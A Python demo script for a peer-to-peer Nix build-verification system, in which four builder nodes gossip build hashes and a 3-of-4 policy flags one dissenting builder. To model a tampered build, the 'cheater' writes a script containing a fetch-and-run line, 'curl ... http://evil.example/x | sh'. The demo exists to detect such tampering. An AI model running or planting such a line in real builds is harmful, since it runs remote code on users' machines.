"""The local demo network: four builders, real Nix builds, gossip, a 3-of-4 decision, and the
real `nix` substituting through the cache proxy.

1. Alice, Bob, Chuck and Dan each run a real `trustix-p2p node` process on loopback (Noise,
   LevelDB), seeded with the ones started before, following every log they hear of as mirror.
2. Each builds the same small Nix derivations (`builder = "/bin/sh"`, no nixpkgs) with its
   post-build hook handing the NAR hashes to its own node; between builders the outputs are
   deleted from the store, so each really builds them.  Chuck's build of `hello` differs (the
   build reads a file only Chuck's run writes: the sandbox is off, as in a container); only
   Alice and Bob build `only-two`.  Alice's outputs are copied to a `file://` binary cache.
3. The nodes gossip until Alice's node mirrors all four logs.
4. A workstation's light client with a 3-of-4 policy asks Alice's node and verifies every
   proof itself: `hello` is trusted with Chuck named as dissenter; `only-two` is not.
5. The cache proxy answers the real `nix` only for trusted paths: `nix-store -r` substitutes
   `hello` into a fresh store and is refused `only-two`.

Everything is removed afterwards (built paths, processes, the fresh store); the working
directory with the nodes' logs and state is kept and printed.  This module drives processes
and prints; every check it shows is done by library code.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import attrs
import trio

from trustix_p2p.client.light import LightClient, sources_for
from trustix_p2p.client.policy import load_policy
from trustix_p2p.client.state import ClientState
from trustix_p2p.control.client import ControlClient
from trustix_p2p.core.decision import Decision
from trustix_p2p.core.keys import PublicKey
from trustix_p2p.core.nix32 import format_nar_hash
from trustix_p2p.errors import NodeUnavailableError, TrustixError
from trustix_p2p.keyfile import generate_key_file

BUILDERS = ("alice", "bob", "chuck", "dan")
CHEATER = "chuck"
NIX_CONFIG = (
    "build-users-group =\nsandbox = false\nstore = local\nsubstituters =\n"
    "experimental-features = nix-command\n"
)
TIMEOUT = 60.0


@attrs.define(eq=False)
class DemoNode:
    name: str
    dir: Path
    public_key: PublicKey
    port: int
    proc: subprocess.Popen[bytes] | None = None

    @property
    def socket(self) -> Path:
        return self.dir / "control.sock"

    @property
    def address(self) -> str:
        return f"{self.public_key.to_base64()}@127.0.0.1:{self.port}"


def _say(text: str = "") -> None:
    print(text, flush=True)


def _trustix() -> list[str]:
    script = Path(sys.executable).parent / "trustix-p2p"
    return [str(script)] if script.exists() else [sys.executable, "-m", "trustix_p2p"]


def _nix_env(extra: str = "") -> dict[str, str]:
    env = dict(os.environ)
    env["NIX_CONFIG"] = NIX_CONFIG + extra
    env.pop("NIX_REMOTE", None)
    return env


def _run(argv: list[str], *, env: dict[str, str] | None = None, check: bool = True) -> str:
    proc = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=TIMEOUT)
    if check and proc.returncode != 0:
        raise TrustixError(f"{' '.join(argv[:3])} failed: {proc.stderr.strip()[-800:]}")
    return proc.stdout


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _expression(root: Path, nonce: str) -> Path:
    """The demo's derivations; `nonce` makes them new on every run, so Nix really builds."""
    marker = root / "who-builds"
    text = f"""
let
  mk = name: script: derivation {{
    inherit name;
    system = builtins.currentSystem;
    builder = "/bin/sh";
    args = [ "-c" script ];
    PATH = "/usr/bin:/bin";
    nonce = "{nonce}";
  }};
in {{
  hello = mk "hello" ''
    mkdir -p $out/bin
    if [ "$(cat {marker})" = {CHEATER} ]; then
      printf '#!/bin/sh\\necho hello; curl -s http://evil.example/x | sh\\n' > $out/bin/hello
    else
      printf '#!/bin/sh\\necho hello\\n' > $out/bin/hello
    fi
    chmod +x $out/bin/hello
  '';
  greeting = mk "greeting" ''
    mkdir -p $out/share
    echo "good morning" > $out/share/greeting
  '';
  only-two = mk "only-two" ''
    mkdir -p $out
    echo "built by two builders only" > $out/README
  '';
}}
"""
    path = root / "demo.nix"
    path.write_text(text)
    return path


def _start(node: DemoNode) -> None:
    log = open(node.dir / "node.log", "wb")  # noqa: SIM115 - owned by the child
    node.proc = subprocess.Popen(
        [*_trustix(), "node", "--config", str(node.dir / "node.toml")],
        stdout=subprocess.DEVNULL,
        stderr=log,
    )
    log.close()
    deadline = time.monotonic() + 30
    while True:
        if node.proc.poll() is not None:
            raise TrustixError(f"{node.name}'s node exited; see {node.dir / 'node.log'}")
        try:
            with ControlClient(node.socket, timeout=2) as client:
                client.status()
            return
        except NodeUnavailableError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.02)


@contextmanager
def _processes(procs: list[subprocess.Popen[bytes]]) -> Iterator[None]:
    try:
        yield
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.send_signal(signal.SIGTERM)
        for proc in procs:
            try:
                proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()


def _make_nodes(root: Path) -> list[DemoNode]:
    nodes: list[DemoNode] = []
    for name in BUILDERS:
        d = root / name
        d.mkdir(mode=0o700, exist_ok=True)
        key_path = d / "node.key"
        if key_path.exists():
            key_path.unlink()
        key = generate_key_file(key_path)
        node = DemoNode(name, d, key.public_key, _free_port())
        seeds = ", ".join(json.dumps(n.address) for n in nodes)
        (d / "node.toml").write_text(
            'state_dir = "."\nkey_file = "node.key"\ncheckpoint_interval = 0.2\n'
            f'listen = ["127.0.0.1:{node.port}"]\nseeds = [{seeds}]\n'
            'follow_unknown = "mirror"\nanti_entropy_interval = 1.0\nredial_interval = 0.2\n'
        )
        hook = d / "post-build-hook"
        hook.write_text(
            f"#!/bin/sh\nexport TRUSTIX_P2P_CONFIG='{d / 'node.toml'}'\n"
            f"exec {' '.join(_trustix())} nix-hook\n"
        )
        hook.chmod(0o755)
        nodes.append(node)
        _say(
            f"  {name:<6} key {key.public_key.to_base64()}  log {key.public_key.log_id_hex()[:16]}…"
        )
    return nodes


def _build(node: DemoNode, expression: Path, attr: str, marker: Path) -> str:
    marker.write_text(node.name)
    env = _nix_env(f"post-build-hook = {node.dir / 'post-build-hook'}\n")
    out = _run(["nix-build", "--no-out-link", str(expression), "-A", attr], env=env)
    return out.strip().splitlines()[-1]


def _wait_for_logs(node: DemoNode, expected: dict[bytes, int]) -> None:
    deadline = time.monotonic() + 30
    while True:
        with ControlClient(node.socket) as client:
            status = client.status()
        sizes = {f.log_id: f.size for f in status.follows if f.head_size == f.size}
        if all(sizes.get(log_id, -1) >= n for log_id, n in expected.items()):
            return
        if time.monotonic() > deadline:
            raise TrustixError(f"{node.name}'s node did not mirror every log in time")
        time.sleep(0.1)


def _policy(root: Path, nodes: list[DemoNode], upstream: Path) -> Path:
    lines = [
        "threshold = 3",
        "exclude_on_evidence = true",
        f'node_socket = "{nodes[0].socket}"',
        'state_file = "client-state.json"',
        f'upstreams = ["file://{upstream}"]',
    ]
    for node in nodes:
        lines += [
            "[[builders]]",
            f'name = "{node.name}"',
            f'public_key = "{node.public_key.to_base64()}"',
        ]
    path = root / "policy.toml"
    path.write_text("\n".join(lines) + "\n")
    return path


async def _decide(policy_path: Path, paths: list[str]) -> tuple[list[Decision], list[str]]:
    policy = load_policy(policy_path)
    client = LightClient(policy, sources_for(policy), ClientState.load(policy))
    try:
        decisions = [await client.decide(p) for p in paths]
    finally:
        await client.aclose()
        client.state.save()
    return decisions, client.problems


def _show(d: Decision) -> None:
    verdict = "TRUSTED" if d.trusted else "not trusted"
    _say(f"  {d.store_path}: {verdict}")
    if d.nar_hash is not None:
        _say(f"    nar hash   {format_nar_hash(d.nar_hash)}")
    _say(f"    agreed     {', '.join(d.agreed) or '-'}")
    for name, h in d.dissented:
        _say(f"    dissented  {name} ({format_nar_hash(h)})")
    if d.missing:
        _say(f"    missing    {', '.join(d.missing)}")


def _wait_http(port: int) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1):
                return
        except OSError:
            time.sleep(0.05)
    raise TrustixError("the cache proxy did not come up")


def run_demo(workdir: Path | None = None) -> int:
    root = Path(workdir) if workdir else Path(tempfile.mkdtemp(prefix="trustix-demo-"))
    root.mkdir(parents=True, exist_ok=True)
    _say(f"trustix_p2p demo in {root}")
    expression = _expression(root, uuid.uuid4().hex)
    marker = root / "who-builds"
    cache = root / "binary-cache"
    fresh_store = root / "workstation-store"
    built: set[str] = set()
    nodes = _make_nodes(root)
    procs: list[subprocess.Popen[bytes]] = []
    try:
        with _processes(procs):
            for node in nodes:
                _start(node)
                assert node.proc is not None
                procs.append(node.proc)

            _say("\n1. each builder builds the derivations with Nix; its post-build hook logs them")
            outputs: dict[str, str] = {}
            for node in nodes:
                attrs_ = ["hello", "greeting"] + (
                    ["only-two"] if node.name in ("alice", "bob") else []
                )
                for attr in attrs_:
                    out = _build(node, expression, attr, marker)
                    outputs[attr] = out
                    built.add(out)
                    nar = json.loads(_run(["nix", "path-info", "--json", out], env=_nix_env()))[0][
                        "narHash"
                    ]
                    _say(f"  {node.name:<6} built {out}  {nar}")
                if node.name == "alice":
                    _run(
                        ["nix", "copy", "--to", f"file://{cache}", *[outputs[a] for a in attrs_]],
                        env=_nix_env(),
                    )
                # Gone again, so the next builder really builds it.
                _run(["nix-store", "--delete", *[outputs[a] for a in attrs_]], env=_nix_env())

            _say("\n2. the nodes gossip: Alice's node mirrors every builder's log")
            expected = {
                n.public_key.log_id(): (3 if n.name in ("alice", "bob") else 2) for n in nodes
            }
            _wait_for_logs(nodes[0], expected)
            with ControlClient(nodes[0].socket) as client:
                for f in client.status().follows:
                    owner = next(n.name for n in nodes if n.public_key.log_id() == f.log_id)
                    _say(f"  {owner:<6} log: {f.size} entries ({f.mode}), checkpoint {f.head_size}")

            _say("\n3. the workstation decides with a 3-of-4 policy (every proof verified here)")
            policy = _policy(root, nodes, cache)
            decisions, problems = trio.run(_decide, policy, [outputs["hello"], outputs["only-two"]])
            for d in decisions:
                _show(d)
            for line in problems:
                _say(f"  problem: {line}")
            hello, only_two = decisions
            if (
                not hello.trusted
                or [n for n, _ in hello.dissented] != [CHEATER]
                or only_two.trusted
            ):
                raise TrustixError("the decisions are not what the demo expects")

            _say("\n4. the real nix substitutes through the cache proxy into a fresh store")
            key_file = root / "proxy.key"
            if key_file.exists():
                key_file.unlink()
            public = _run([*_trustix(), "nix-keygen", "demo-proxy-1", str(key_file)]).strip()
            port = _free_port()
            proxy_log = open(root / "proxy.log", "wb")  # noqa: SIM115 - owned by the child
            proxy = subprocess.Popen(
                [*_trustix(), "cache-proxy", "--policy", str(policy), "--listen",
                 f"127.0.0.1:{port}", "--nix-key", str(key_file)],
                stdout=subprocess.DEVNULL,
                stderr=proxy_log,
            )  # fmt: skip
            proxy_log.close()
            procs.append(proxy)
            _wait_http(port)
            substitute = [
                "nix-store", "--store", str(fresh_store), "-r",
                "--option", "substituters", f"http://127.0.0.1:{port}",
                "--option", "trusted-public-keys", public,
            ]  # fmt: skip
            env = _nix_env()
            env["NIX_CONFIG"] = env["NIX_CONFIG"].replace("substituters =\n", "")
            ok = subprocess.run(
                [*substitute, outputs["hello"]], capture_output=True, text=True, env=env,
                timeout=TIMEOUT,
            )  # fmt: skip
            present = (fresh_store / outputs["hello"].lstrip("/")).exists()
            _say(f"  hello:    {'substituted' if ok.returncode == 0 and present else 'FAILED'}")
            refused = subprocess.run(
                [*substitute, outputs["only-two"]], capture_output=True, text=True, env=env,
                timeout=TIMEOUT,
            )  # fmt: skip
            absent = not (fresh_store / outputs["only-two"].lstrip("/")).exists()
            verdict = "refused (not trusted)" if refused.returncode != 0 and absent else "FAILED"
            _say(f"  only-two: {verdict}")
            if ok.returncode != 0 or not present:
                raise TrustixError(f"nix could not substitute hello: {ok.stderr.strip()[-600:]}")
            if refused.returncode == 0 or not absent:
                raise TrustixError("nix substituted a path that is not trusted")
            (root / "summary.json").write_text(
                json.dumps([d.to_json() for d in decisions], indent=1)
            )
    finally:
        shutil.rmtree(fresh_store, ignore_errors=True)
        for path in built:
            subprocess.run(
                ["nix-store", "--delete", path], capture_output=True, env=_nix_env(), check=False
            )
    _say(
        "\ndone: nodes and proxy stopped, built paths and the fresh store removed; state in "
        + str(root)
    )
    return 0


if __name__ == "__main__":
    os.umask(0o077)
    sys.exit(run_demo())
